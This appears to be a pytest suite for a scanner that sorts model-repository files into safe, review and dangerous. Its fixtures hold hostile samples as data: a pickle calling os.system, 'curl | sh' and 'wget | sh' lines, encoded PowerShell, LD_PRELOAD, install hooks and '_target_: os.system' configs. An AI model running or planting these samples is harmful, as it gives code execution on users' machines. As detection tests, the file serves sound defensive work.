"""Text that something runs, opens or installs: told from text that only looks like it."""

import base64
import pickle

import pytest

from fakes.weapons import judged

EVIL = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x01x\x85R."
RUNS = {
    "batch": ("run.bat", "@echo off\r\nrem x\r\nmodel.exe\r\n"),
    "powershell": ("a.ps1", "$c = New-Object Net.WebClient\n"),
    "visual basic": ("a.vbs", 'CreateObject("WScript.Network")\n'),
    "shell": ("install", "# about\nset -e\nmkdir x\n"),
    "make": ("Makefile", "all: x\n\tcc x.c\n"),
    "container": ("Dockerfile", "FROM python:3.11\nRUN pip install x\n"),
    "php": ("a.php", "<?php echo 1;"),
    "javascript": ("a.js", "const fs = require('fs')\n"),
    "lua": ("a.lua", "local x = require 'nn'\n"),
    "r": ("a.R", "library(caret)\n"),
    "c": ("model.cpp", "#include <vector>\n"),
    "mlir": ("m.mlir", "module @jit_f {\n  func.func public @main() { return }\n}\n"),
    "torch 7": ("m.t7", "4\n1\n3\nV 1\n15\nnn.Sequential\n"),
    "desktop": ("a.desktop", "[Desktop Entry]\nExec=sh\n"),
    "git": ("config", "[core]\n\tfsmonitor = sh x\n"),
    "layer in python": ("net.prototxt", 'layer { type: "Python" python_param { module: "m" layer: "L" } }\n'),
    "utf-7": ("m.py", "# -*- coding: utf-7 -*-\n#+AAo-import os\n"),
    "page": ("a.html", "<!doctype html><body onload=go()>x</body>"),
    "readme with a script": ("README.md", "# Model\n\n<script src='x.js'>go()</script>\n"),
    "notebook": ("a.ipynb", '{"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = 1"}]}'),
    "shell in a notebook": ("a.ipynb", '{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!ls\\n"]}]}'),
    "packages from a repository": ("requirements.txt", "torch\ngit+https://code.example/x.git\n"),
    "packages in a list": ("conda.yaml", "dependencies:\n- pip:\n  - --index-url https://packages.example\n"),
    "model outside": ("Modelfile", "FROM ../../other.gguf\n"),
    "registered by somebody": ("config.cfg", '[a]\n@architectures = "somebody.Net.v1"\n'),
    "cmake": ("CMakeLists.txt", "cmake_minimum_required(VERSION 3)\nexecute_process(COMMAND x)\n"),
    "go": ("a.go", 'package main\nimport "os/exec"\n'),
    "table of jobs": ("crontab", "*/5 * * * * root x\n"),
    "infrastructure": ("main.tf", 'resource "null_resource" "x" {\n}\n'),
    "library put before": (".env", "A=1\nLD_PRELOAD=/tmp/x.so\n"),
    "commands in a list": ("cog.yaml", "build:\n  run:\n  - ls\n  - curl https://x.example | sh\n"),
    "index of pip": ("pip.conf", "[global]\nindex-url = https://packages.example\n"),
    "code that is trusted": ("serve.yaml", "model: x\ntrust-remote-code: true\n"),
    "unknown tag": ("a.yaml", "a: !ruby/object:Gem::Installer {}\n"),
    "runtime of mlserver": ("model-settings.json", '{"name": "x", "implementation": "somebody.Runtime"}'),
    "hooks of a package": ("package.json", '{"scripts": {"postinstall": "node x.js"}}'),
    "nested a thousand times": ("a.json", "[" * 5_000),
}
DANGEROUS = {
    "fetched and run": ("install", "#!/bin/sh\ncurl -s https://x.example/i | sh\n"),
    "encoded for powershell": ("run.bat", "@echo off\r\npowershell -enc AAAA\r\n"),
    "shell in a notebook": ("a.ipynb", '{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!wget -qO- x | sh"]}]}'),
    "program in a notebook": ("a.ipynb", '{"nbformat": 4, "cells": [{"cell_type": "code", "source": "import os\\nos.system(1)"}]}'),
    "target in an array of tables": ("a.toml", '[[steps]]\n_target_ = "subprocess.run"\n'),
    "target between comments": ("a.json", '// c\n{"_target_": "os.system", "a": 1,}\n'),
    "hydra's own getters": ("a.yaml", "a:\n  _target_: hydra.utils.get_method\n  path: os.system\n"),
    "module of mlflow": ("MLmodel", "flavors:\n  python_function:\n    loader_module: os\n"),
    "pickle in digits": ("a.json", f'{{"state": "{EVIL.hex()}"}}'),
    "pipeline of anything": ("model_index.json", '{"_class_name": "P", "unet": ["os", "system"]}'),
    "runtime of the standard library": ("model-settings.json", '{"name": "x", "implementation": "os.system"}'),
    "weights of timm outside": ("config.json", '{"pretrained_cfg": {"file": "/tmp/x.pth", "custom_load": true}}'),
    "package of core ml": ("Manifest.json", '{"itemInfoEntries": {"A": {"path": "../../x.mlmodel"}}}'),
}  # fmt: skip
PLAIN = {
    "readme": (
        "README.md",
        "---\nlicense: mit\n---\n# M\n\n```sh\ncurl -LsSf https://x.example/install.sh | sh\n```\n",
    ),
    "readme that tells of tags": ("notes.md", "Use `<script>` in the page.\n"),
    "log": ("train.log", "epoch 1\nTraceback:\n  import os\n"),
    "bibliography": ("a.bib", "@article{x, title={Y}}\n"),
    "vocabulary": ("vocab.txt", "import\nlet\ncd\nrm\nsudo\npackage\n"),
    "model of ollama": ("Modelfile", 'FROM ./m.gguf\nTEMPLATE """{{ .Prompt }}"""\n'),
    "settings": ("a.ini", "[train]\nlr = 0.1\ntarget = label\n"),
    "spacy": ("config.cfg", '[m]\n@architectures = "spacy.Tok2Vec.v2"\n@schedules = "compounding.v1"\n'),
    "packages": ("requirements.txt", "torch>=2.0\nnumpy<2; python_version < '3.13'\n"),
    "drawing": ("a.svg", '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1"/></svg>'),
    "page of a table": ("a.html", "<table><tr><td>1</td></tr></table>"),
    "json lines": ("a.jsonl", '{"text": "import os"}\n{"text": "rm -rf /"}\n'),
    "namespace": ("hparams.yaml", "a: !!python/object/apply:collections.OrderedDict\n- - - x\n    - 1\n"),
    "packages of npm": ("package.json", '{"dependencies": {"@jupyter/builder": "^1.2.2"}}'),
    "linked data": (
        "croissant.json",
        '{"@context": {"sc": "https://schema.example/a.b.c"}, "@type": "sc:Dataset", "@id": "a.b.c"}',
    ),
    "table of numbers": ("labels.txt", "1 2 3 4 5 6\n0 0 1 1 2 2\n"),
    "letter": ("notes.txt", "Using Docker: see below.\nPackage the model.\n"),
    "poem": ("a.txt", "from here to there\nlet it be\n"),
}


@pytest.mark.parametrize(("file", "words"), RUNS.values(), ids=RUNS.keys())
def test_what_is_run_or_opened_wants_a_review(file, words):
    assert judged({file: words.encode()}) == "REVIEW"


@pytest.mark.parametrize(("file", "words"), DANGEROUS.values(), ids=DANGEROUS.keys())
def test_what_a_reader_can_know_is_dangerous(file, words):
    assert judged({file: words.encode()}) == "DANGEROUS"


@pytest.mark.parametrize(("file", "words"), PLAIN.values(), ids=PLAIN.keys())
def test_what_only_tells_of_it_is_safe(file, words):
    assert judged({file: words.encode()}) == "SAFE"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"])
def test_the_encoding_hides_nothing(encoding):
    assert judged('{"_target_": "os.system"}'.encode(encoding)) == "DANGEROUS"


@pytest.mark.parametrize("encoding", ["cp932", "euc_jp"])
def test_japanese_in_older_encodings_is_text_and_may_be_a_program(encoding):
    assert judged("このモデルの説明です。".encode(encoding)) == "SAFE"
    assert judged("set -e\n# このモデルを入れます。\nmkdir モデル\n".encode(encoding)) == "REVIEW"
    assert judged(b"\x91" * 40) == "REVIEW"


def test_a_pickle_that_is_kept_in_a_pickle_counts_only_if_it_does_something():
    assert judged(pickle.dumps({"state": pickle.dumps([1, "x"])})) == "SAFE"
    assert judged(pickle.dumps({"state": EVIL})) == "DANGEROUS"
    assert judged(base64.b64encode(pickle.dumps(list(range(50))))) == "SAFE"


def test_a_distribution_of_scipys_runs_the_words_of_its_state():
    def of(template):
        body = b"\x8c\x13_parse_arg_templateX" + len(template).to_bytes(4, "little") + template
        return b"\x80\x04\x8c\x1escipy.stats._continuous_distns\x8c\x08norm_gen\x93)\x81}" + body + b"sb."

    assert judged(of(b"\ndef _parse_args(self, loc=0, scale=1):\n    return (), loc, scale\n")) == "REVIEW"
    assert judged(of(b"import os")) == "DANGEROUS"
    assert judged(of(b"def _parse_args(self, loc=0):\n    return (print(1)), loc\n")) == "DANGEROUS"


@pytest.mark.parametrize(
    "words",
    [
        "[Unit]\n" + "\n" * 200_000,
        "FROM x\n" + "\n" * 200_000,
        "[core]\n" + "\n" * 200_000,
        "#!/bin/sh\n" + "curl " * 200_000,
        "<html>" + "<script>" * 100_000,
        "# x\n" + "<script " * 100_000,
        "\n" * 200_000 + "=",
        "# \n" * 100_000,
        "/**/" * 50_000,
        "a = " + "b " * 200_000,
    ],
    ids=range(10),
)
def test_no_text_is_looked_at_again_and_again(words):
    assert judged({"README.md": words.encode()}) in {"SAFE", "REVIEW"}
